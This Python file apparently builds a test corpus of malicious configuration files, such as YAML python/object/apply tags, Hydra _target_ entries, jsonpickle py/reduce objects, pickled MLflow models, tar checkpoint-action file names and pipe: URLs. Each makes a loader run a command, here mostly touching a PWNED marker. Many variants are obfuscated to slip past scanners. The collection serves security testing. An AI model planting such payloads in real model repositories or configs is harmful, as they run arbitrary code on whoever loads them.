# SPDX-License-Identifier: Apache-2.0
"""Configurations: YAML with tags, and what names classes, functions, modules or expressions in YAML, JSON, INI and others."""

import json
from typing import Iterator

from cases import CODE, SHELL, Case

APPLY = "!!python/object/apply:os.system"
# Each is a document of YAML that runs the payload when PyYAML reads it with yaml.Loader or yaml.unsafe_load.
TAGS = {
    "apply": f"a: {APPLY} [{SHELL}]\n",
    "apply_block": f"a: {APPLY}\n  - {SHELL}\n",
    "apply_args": f"a: {APPLY}\n  args: [{SHELL}]\n",
    "apply_kwds": f"a: !!python/object/apply:subprocess.run\n  kwds: {{args: {SHELL}, shell: true}}\n",
    "new": "a: !!python/object/new:numpy.memmap [PWNED, u1, w+, 0, 1]\n",
    "new_state": "a: !!python/object/new:type\n  args: [x, !!python/tuple [], {}]\nb: !!python/object/apply:exec [\"open('PWNED', 'w')\"]\n",
    "listitems": "a: !!python/object/new:argparse.Namespace\n  state:\n    extend: !!python/name:subprocess.Popen ''\n  listitems: [touch, PWNED]\n",
    "dictitems": "a: !!python/object/apply:collections.OrderedDict\n  dictitems: {k: !!python/object/apply:os.mkdir [PWNED]}\n",
    "object_state": f"a: !!python/object:argparse.Namespace {{b: {APPLY} [{SHELL}]}}\n",
    "setstate": f"a: !!python/object/new:argparse.Namespace\n  state: !!python/tuple [{{}}, {{b: {APPLY} [{SHELL}]}}]\n",
    "list_key": f"? {APPLY} [{SHELL}]\n: 1\n",
    "flow_key": f"{{ {APPLY} [{SHELL}] : 1 }}\n",
    "document_tag": f"--- {APPLY} [{SHELL}]\n",
    "second_document": f"a: 1\n---\na: 2\n...\n--- {APPLY} [{SHELL}]\n",
    "tag_handle": f"%TAG !p! tag:yaml.org,2002:python/object/apply:\n---\na: !p!os.system [{SHELL}]\n",
    "tag_handle_primary": f"%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system [{SHELL}]\n",
    "tag_handle_secondary": f"%TAG !! tag:yaml.org,2002:python/object/apply:\n---\na: !!os.system [{SHELL}]\n",
    "verbatim": f"a: !<tag:yaml.org,2002:python/object/apply:os.system> [{SHELL}]\n",
    "percent_escape": f"a: !!python/object/apply%3Aos.system [{SHELL}]\n",
    "percent_escape_letters": f"a: !!%70ython/%6fbject/apply:os.system [{SHELL}]\n",
    "anchor_before_tag": f"a: &x {APPLY} [{SHELL}]\nb: *x\n",
    "alias_argument": f"b: &y [{SHELL}]\na: {APPLY} [*z]\n".replace("*z", "touch PWNED"),
    "merge_key": f"a: {{<<: {{b: {APPLY} [{SHELL}]}}}}\n",
    "in_comment_lookalike": f"a: 'x # y'\nb: {APPLY} [{SHELL}] # z\n",
    "next_line_break": f"# comment\x85a: {APPLY} [{SHELL}]\n",
    "line_separator": f"# comment\u2028a: {APPLY} [{SHELL}]\n",
    "paragraph_separator": f"# comment\u2029a: {APPLY} [{SHELL}]\n",
    "block_scalar_ends": f"a: |\n  text\nb: {APPLY} [{SHELL}]\n",
    "json_face": json.dumps({"a": "b"})[:-1] + f', "c": {APPLY} ["{SHELL}"]}}\n',
    "name_and_module": "a: !!python/module:subprocess\nb: !!python/object/apply:subprocess.call [[touch, PWNED]]\n",
    "set": f"!!set {{ {APPLY} [{SHELL}] }}\n",
    "omap": f"!!omap [ {APPLY} [{SHELL}]: 1 ]\n",
    "pairs": f"!!pairs [ a: {APPLY} [{SHELL}] ]\n",
    "byte_order_mark": f"\ufeffa:   {APPLY}   [ {SHELL} ]\n",
}
ENDINGS = ("config.yaml", "config.yml", "hparams.yaml", "config.json", "tokenizer_config.json", "conf/train.yaml", "settings.txt", "metadata.yaml")


def yaml_cases() -> Iterator[Case]:
    known = ("tag_handle", "verbatim", "percent_escape", "second_document", "apply")
    for number, (name, document) in enumerate(TAGS.items()):
        path = ENDINGS[number % len(ENDINGS)]
        yield Case("yaml_" + name, "YAML", {path: document},
                   f"import yaml; list(yaml.load_all(open(folder + '/{path}', encoding='utf-8'), Loader=yaml.UnsafeLoader))", ("yaml",), name in known)
    for code in ("utf-16-le", "utf-16-be"):
        yield Case("yaml_" + code, "YAML", {"config.yaml": ("\ufeff" + TAGS["apply"]).encode(code)},
                   "import yaml; yaml.unsafe_load(open(folder + '/config.yaml', 'rb'))", ("yaml",), True)
    yield Case("yaml_ruamel", "YAML", {"config.yaml": TAGS["apply"]},
               "import ruamel.yaml; ruamel.yaml.YAML(typ='unsafe', pure=True).load(open(folder + '/config.yaml'))", ("ruamel.yaml",))
    yield Case("yaml_front_matter", "YAML", {"README.md": f"---\nlicense: mit\nx: {APPLY} [{SHELL}]\n---\n# Model\n"},
               "import yaml; yaml.unsafe_load(open(folder + '/README.md').read().split('---')[1])", ("yaml",))


def hyperpyyaml() -> Iterator[Case]:
    load = "from hyperpyyaml import load_hyperpyyaml; load_hyperpyyaml(open(folder + '/hyperparams.yaml'))"
    for name, document in {
        "new": "a: !new:subprocess.Popen\n  args: [touch, PWNED]\n",
        "name_then_apply": f"f: !name:os.system\na: !apply:os.system [{SHELL}]\n",
        "applyref": f"c: {SHELL}\na: !apply:os.system [!ref <c>]\n",
        "include": "a: !include:other.txt\n",
        "new_path": "a: !new:pathlib.Path [PWNED]\nb: !apply:pathlib.Path.touch [!ref <a>]\n",
        "python_tag": f"a: {APPLY} [{SHELL}]\n",
    }.items():
        files = {"hyperparams.yaml": document}
        if name == "include":
            files["other.txt"] = f"b: !apply:os.system [{SHELL}]\n"
        yield Case("hyperpyyaml_" + name, "YAML", files, load, ("hyperpyyaml",), name in ("new_path",))


def named_things() -> Iterator[Case]:
    popen = {"args": ["touch", "PWNED"]}
    hydra = "from hydra.utils import instantiate; from omegaconf import OmegaConf; instantiate(OmegaConf.load(folder + '/{}'))"
    for name, path, text in (
        ("json", "config.json", json.dumps({"model": {"_target_": "subprocess.Popen", **popen}})),
        ("partial", "config.yaml", "a: {_target_: builtins.map, _args_: [{_target_: hydra.utils.get_method, path: os.system}, [touch PWNED]]}\n"
                                   "b: {_target_: builtins.list, _args_: ['${a}']}\n"),
        ("convert", "config.yaml", f"a:\n  - b:\n      _target_: os.system\n      command: {SHELL}\n"),
        ("interpolated", "config.yaml", f"t: sys\na: {{_target_: 'os.${{t}}tem', _args_: [{SHELL}]}}\n"),
        ("escaped_key", "config.yaml", f'a: {{"\\x5ftarget\\x5f": os.system, command: {SHELL}}}\n'),
        ("merged", "config.yaml", f"d: &d {{command: {SHELL}}}\na: {{<<: *d, _target_: os.system}}\n"),
        ("numpy", "config.yaml", f"a: {{_target_: numpy.testing.runstring, _args_: [\"{CODE}\", {{}}]}}\n"),
        ("timm_style", "args.yaml", f"optimizer:\n  _target_: torch.utils.collect_env.run\n  command: {SHELL}\n"),
    ):
        needs = ("hydra", "torch") if name == "timm_style" else ("hydra",)
        yield Case("hydra_" + name, "named in a configuration", {path: text}, hydra.format(path), needs, True)
    yield Case("omegaconf_eval", "named in a configuration", {"config.yaml": "a: ${eval:\"open('PWNED', 'w')\"}\n"},
               "from omegaconf import OmegaConf; OmegaConf.register_new_resolver('eval', eval); OmegaConf.load(folder + '/config.yaml').a", ("omegaconf",), True)
    yield Case("monai_expression", "named in a configuration", {"configs/inference.json": json.dumps({"device": "$" + CODE})},
               "from monai.bundle import ConfigParser; p = ConfigParser(); p.read_config(folder + '/configs/inference.json'); p.get_parsed_content('device')", ("monai",))
    yield Case("monai_target", "named in a configuration", {"configs/train.yaml": f"net:\n  _target_: os.system\n  command: {SHELL}\n"},
               "from monai.bundle import ConfigParser; p = ConfigParser(); p.read_config(folder + '/configs/train.yaml'); p.get_parsed_content('net')", ("monai",), True)
    for name, thing in {
        "reduce": {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": [SHELL]}]},
        "object": {"py/object": "subprocess.Popen", "py/newargs": [["touch", "PWNED"]]},
        "newargs": {"py/object/": 1, "a": {"py/reduce": [{"py/type": "subprocess.Popen"}, {"py/tuple": [["touch", "PWNED"]]}, None, None, None]}},
        "repr": {"py/repr": "os/os.mkdir('PWNED')"},
        "newargsex": {"py/object": "subprocess.Popen", "py/newargsex": [[["touch", "PWNED"]], {}]},
    }.items():
        yield Case("jsonpickle_" + name, "named in a configuration", {"model.json": json.dumps({"config": thing})},
                   "import jsonpickle; jsonpickle.decode(open(folder + '/model.json').read(), safe=False, on_missing='error')", ("jsonpickle",))
    for name, facts in {
        "formatter": {"version": 1, "formatters": {"f": {"()": "os.system", "command": SHELL}}},
        "handler": {"version": 1, "handlers": {"h": {"class": "logging.FileHandler", "filename": "PWNED"}}},
        "filter": {"version": 1, "filters": {"f": {"()": "subprocess.Popen", **popen}}},
        "ext": {"version": 1, "formatters": {"f": {"()": "functools.partial", "x": "ext://sys.path"}}, "handlers": {"h": {"()": "os.mkdir", "path": "PWNED"}}},
    }.items():
        yield Case("logging_" + name, "named in a configuration", {"logging.json": json.dumps(facts)},
                   "import json, logging.config; logging.config.dictConfig(json.load(open(folder + '/logging.json')))", (), True)
    ini = "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n[handler_h]\nclass={}\nargs={}\n"
    yield Case("logging_ini_file", "named in a configuration", {"logging.ini": ini.format("FileHandler", "('PWNED',)")},
               "import logging.config; logging.config.fileConfig(folder + '/logging.ini')", (), True)
    yield Case("logging_ini_args", "named in a configuration", {"logging.cfg": ini.format("StreamHandler", CODE + " and ()")},
               "import logging.config; logging.config.fileConfig(folder + '/logging.cfg')", (), True)
    gin = f"from __gin__ import dynamic_registration\nimport os\ntrain.x = @os.system()\nos.system.command = '{SHELL}'\n"
    yield Case("gin_call", "named in a configuration", {"config.gin": gin},
               "import gin\n@gin.register(module='m')\ndef train(x=None): pass\ngin.parse_config_file(folder + '/config.gin')\ntrain()", ("gin",), True)
    yolo = "nc: 2\nscales: {{n: [0.33, 0.25, 1024]}}\nactivation: {}\nbackbone:\n  - [-1, 1, Conv, [64, 3, 2]]\nhead:\n  - [[0], 1, Detect, [nc]]\n"
    yield Case("ultralytics_activation", "named in a configuration", {"yolov8n.yaml": yolo.format("__import__('os').system('touch PWNED') or nn.SiLU()")},
               "from ultralytics import YOLO; YOLO(folder + '/yolov8n.yaml')", ("ultralytics",))
    yield Case("mmengine_type", "named in a configuration", {"config.json": json.dumps({"model": {"type": "subprocess.Popen", **popen}})},
               "from mmengine.config import Config; from mmengine.registry import MODELS; MODELS.build(Config.fromfile(folder + '/config.json').model)", ("mmengine",), True)
    yield Case("mmengine_python", "Python source", {"config.py": CODE + "\nmodel = dict()\n"},
               "from mmengine.config import Config; Config.fromfile(folder + '/config.py')", ("mmengine",))
    yield Case("mmengine_imports", "named in a configuration", {"config.json": json.dumps({"custom_imports": {"imports": ["projector"]}}), "projector.py": CODE},
               "import sys; sys.path.insert(0, folder); from mmengine.config import Config; Config.fromfile(folder + '/config.json')", ("mmengine",))
    yield Case("yacs_python", "Python source", {"config.py": CODE + "\ncfg = {}\n"},
               "from yacs.config import CfgNode; CfgNode.load_cfg(open(folder + '/config.py'))", ("yacs",))
    yield Case("lightning_class_path", "named in a configuration", {"config.yaml": "optimizer: {class_path: subprocess.Popen, init_args: {args: [touch, PWNED]}}\n"},
               "import yaml; from lightning.pytorch.cli import instantiate_class; instantiate_class((), yaml.safe_load(open(folder + '/config.yaml'))['optimizer'])", ("lightning", "yaml"), True)
    yield Case("jsonargparse_callable", "named in a configuration", {"config.yaml": "f: os.system\nx: touch PWNED\n"},
               "from typing import Callable; from jsonargparse import ArgumentParser; p = ArgumentParser(); p.add_argument('--cfg', action='config');"
               " p.add_argument('--f', type=Callable); p.add_argument('--x'); c = p.parse_args(['--cfg', folder + '/config.yaml']); c.f(c.x)", ("jsonargparse",), True)
    yield Case("jsonargparse_class", "named in a configuration", {"config.yaml": "w: {class_path: logging.FileHandler, init_args: {filename: PWNED}}\n"},
               "import logging; from jsonargparse import ArgumentParser; p = ArgumentParser(); p.add_argument('--cfg', action='config');"
               " p.add_subclass_arguments(logging.Handler, 'w'); p.instantiate_classes(p.parse_args(['--cfg', folder + '/config.yaml']))", ("jsonargparse",), True)
    yield Case("mlproject", "named in a configuration", {"MLproject": f"name: m\nentry_points:\n  main:\n    command: \"{SHELL}\"\n"},
               "import os; os.environ['MLFLOW_TRACKING_URI'] = 'file:' + os.getcwd() + '/runs'; import mlflow; mlflow.projects.run(folder, env_manager='local'); os.path.exists(folder + '/PWNED') and open('PWNED', 'w')", ("mlflow",))
    yield Case("mlflow_loader", "named in a configuration", {"MLmodel": "flavors:\n  python_function:\n    loader_module: loader\n    code: code\nmodel_uuid: x\n", "code/loader.py": CODE},
               "import mlflow.pyfunc; mlflow.pyfunc.load_model(folder)", ("mlflow", "pandas"), True)
    yield Case("mlflow_loader_named", "named in a configuration", {"MLmodel": "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    python_model: m.pkl\n    cloudpickle_version: '3'\nmodel_uuid: x\n",
                                                 "m.pkl": b"cos\nsystem\n(S'touch PWNED'\ntR."},
               "import mlflow.pyfunc; mlflow.pyfunc.load_model(folder)", ("mlflow", "pandas"), True)
    yield Case("mlflow_code_model", "Python source", {"MLmodel": "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: agent.py\nmodel_uuid: x\n", "agent.py": CODE},
               "import mlflow.pyfunc; mlflow.pyfunc.load_model(folder)", ("mlflow", "pandas"))
    yield Case("lm_eval_function", "named in a configuration", {"task.yaml": "task: t\ndoc_to_text: !function utils.f\n", "utils.py": CODE + "\ndef f(doc): pass\n"},
               "from lm_eval import utils; getattr(utils, 'load_yaml_config', None) and utils.load_yaml_config(folder + '/task.yaml', mode='full')"
               "\nfrom lm_eval.tasks import TaskManager\nTaskManager(include_path=folder, include_defaults=False).load(['t'])", ("lm_eval",))
    yield Case("kernel_json", "shell", {"kernels/m/kernel.json": json.dumps({"argv": ["touch", "PWNED"], "display_name": "m", "language": "python"})},
               "import os; os.environ['JUPYTER_PATH'] = folder\nfrom jupyter_client import KernelManager\nk = KernelManager(kernel_name='m'); k.start_kernel(cwd=os.getcwd()); import time; time.sleep(2)", ("jupyter_client",))
    yield Case("peft_megatron", "named in a configuration", {"adapter_config.json": json.dumps({"peft_type": "LORA", "task_type": "CAUSAL_LM", "target_modules": ["0"], "megatron_config": {},
                                                    "megatron_core": "projector"}), "projector.py": CODE},
               "import sys; sys.path.insert(0, folder); import torch, peft; peft.get_peft_model(torch.nn.Sequential(torch.nn.Linear(1, 1)), peft.PeftConfig.from_pretrained(folder))",
               ("peft", "torch"))
    for name, facts in {"class_dispatch": {"_class_name": ["pipe", "Pipe"], "_diffusers_version": "0.30.0"}}.items():
        yield Case("diffusers_" + name, "Python source", {"model_index.json": json.dumps(facts), "pipe.py": CODE},
                   "from diffusers import DiffusionPipeline; DiffusionPipeline.from_pretrained(folder, custom_pipeline=folder + '/pipe.py', trust_remote_code=True)", ("diffusers",))


def commands() -> Iterator[Case]:
    """Files of data from which tools take shell commands or Python and run them."""
    target = {"_target_": "os.system", "command": SHELL}
    yolo = "from ultralytics import YOLO; YOLO(folder + '/yolov8n.yaml')"
    yield Case("ultralytics_list", "named in a configuration",
               {"yolov8n.yaml": "nc: 2\nscales: {n: [0.33, 0.25, 1024]}\nactivation: \"[torch.nn.SiLU(), open('PWNED', 'w')][0]\"\n"
                                "backbone:\n  - [-1, 1, Conv, [64, 3, 2]]\nhead:\n  - [[0], 1, Detect, [nc]]\n"}, yolo, ("ultralytics",))
    yield Case("ultralytics_download", "named in a configuration",
               {"data.yaml": "path: nowhere\ntrain: images\nval: images\nnames: {0: a}\ndownload: |\n  with open('PWNED', 'w') as f:\n    pass\n"},
               "from ultralytics.data.utils import check_det_dataset; check_det_dataset(folder + '/data.yaml')", ("ultralytics",))
    yield Case("ultralytics_script", "named in a configuration",
               {"data.yaml": "path: nowhere\ntrain: images\nval: images\nnames: {0: a}\ndownload: bash setup.txt\n", "setup.txt": "touch ../here/PWNED\n"},
               "import os; from ultralytics.data.utils import check_det_dataset; os.chdir(folder); check_det_dataset('data.yaml')", ("ultralytics",))
    yield Case("monai_list", "named in a configuration", {"configs/inference.json": json.dumps({"device": f"$[{CODE}][0]"})},
               "from monai.bundle import ConfigParser; p = ConfigParser(); p.read_config(folder + '/configs/inference.json'); p.get_parsed_content('device')", ("monai",))
    for name, path in (("text", "config.txt"), ("readme", "README.md")):
        yield Case("hydra_in_" + name, "named in a configuration", {path: "a:\n  _target_: os.system\n  command: touch PWNED\n"},
                   f"from hydra.utils import instantiate; from omegaconf import OmegaConf; instantiate(OmegaConf.load(folder + '/{path}'))", ("hydra",), True)
    yield Case("jsonpickle_in_text", "named in a configuration", {"model.txt": json.dumps({"py/reduce": [{"py/function": "os.system"}, {"py/tuple": [SHELL]}]})},
               "import jsonpickle; jsonpickle.decode(open(folder + '/model.txt').read())", ("jsonpickle",))
    key = "json://" + json.dumps({"py/reduce": [{"py/function": "os.system"}, {"py/tuple": [SHELL]}]})
    yield Case("jsonpickle_key", "named in a configuration", {"model.json": json.dumps({key: 1})},
               "import jsonpickle; jsonpickle.decode(open(folder + '/model.json').read(), keys=True)", ("jsonpickle",))
    yield Case("spacy_project", "shell", {"project.yml": "title: t\ncommands:\n  - name: download\n    script: [\"touch ../here/PWNED\"]\n"},
               "import subprocess, sys; subprocess.run([sys.executable, '-m', 'weasel', 'run', 'download', folder])", ("weasel",))
    yield Case("pre_commit", "shell", {".pre-commit-config.yaml": "repos:\n- repo: local\n  hooks:\n  - id: x\n    name: x\n    entry: touch ../here/PWNED\n"
                                                                  "    language: system\n    always_run: true\n    pass_filenames: false\n"},
               "import subprocess, sys; subprocess.run(f'git init -q; git add .; {sys.executable} -m pre_commit run -a', shell=True, cwd=folder)", ("pre_commit",))
    yield Case("ansible", "shell", {"playbook.yml": "- hosts: localhost\n  connection: local\n  gather_facts: false\n  tasks:\n  - shell: touch ../here/PWNED\n    args: {chdir: .}\n"},
               "import subprocess, sys; subprocess.run([sys.executable, '-m', 'ansible.cli.playbook', folder + '/playbook.yml'], cwd=folder)", ("ansible",))
    yield Case("cookiecutter_key", "Jinja", {"cookiecutter.json": json.dumps({"project": "x", "d": {"{{ lipsum.__globals__.os.system('touch PWNED') }}": 1}}),
                                             "{{cookiecutter.project}}/a.txt": "x"},
               "import os, sys; from cookiecutter.main import cookiecutter; cookiecutter(folder, no_input=True, output_dir='.')", ("cookiecutter",))
    yield Case("yaml_front_matter_of_broken_text", "YAML", {"README.md": f"# Model\n: {{{{\n---\nx: {APPLY} [{SHELL}]\n---\n"},
               "import yaml; yaml.unsafe_load(open(folder + '/README.md').read().split('---\\n')[1])", ("yaml",))
    yield Case("webdataset_pipe", "shell", {"shards.json": json.dumps({"urls": ["pipe:touch PWNED; cat /dev/null"]})},
               "import json, webdataset; list(webdataset.WebDataset(json.load(open(folder + '/shards.json'))['urls'], shardshuffle=False))", ("webdataset",))
    recording = {"id": "r", "sources": [{"type": "command", "channels": [0], "source": SHELL}], "sampling_rate": 16000, "num_samples": 16000, "duration": 1.0, "channel_ids": [0]}
    yield Case("lhotse_command", "shell", {"recordings.jsonl": json.dumps(recording) + "\n"}, "import lhotse; lhotse.load_manifest(folder + '/recordings.jsonl')[0].load_audio()", ("lhotse",))
    yield Case("kaldi_pipe", "shell", {"feats.txt": "a touch PWNED |\n"}, "import kaldiio; kaldiio.load_scp(folder + '/feats.txt')['a']", ("kaldiio",))
    yield Case("file_names_of_text", "shell", {"--checkpoint=1": "", "--checkpoint-action=exec=sh README.md": "x", "README.md": "touch ../here/PWNED\n", "weights.txt": "x" * 20000},
               "import subprocess; subprocess.run('tar cf ../a.tar *', shell=True, cwd=folder)")
    yield Case("logging_in_text", "named in a configuration",
               {"logging.txt": "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n[handler_h]\nclass=FileHandler\nargs=('PWNED',)\n"},
               "import logging.config; logging.config.fileConfig(folder + '/logging.txt')", (), True)
    yield Case("hydra_flow", "named in a configuration", {"model_config.yaml": json.dumps({"model": target})},
               "from hydra.utils import instantiate; from omegaconf import OmegaConf; instantiate(OmegaConf.load(folder + '/model_config.yaml'))", ("hydra",), True)


def cases() -> Iterator[Case]:
    yield from yaml_cases()
    yield from hyperpyyaml()
    yield from named_things()
    yield from commands()
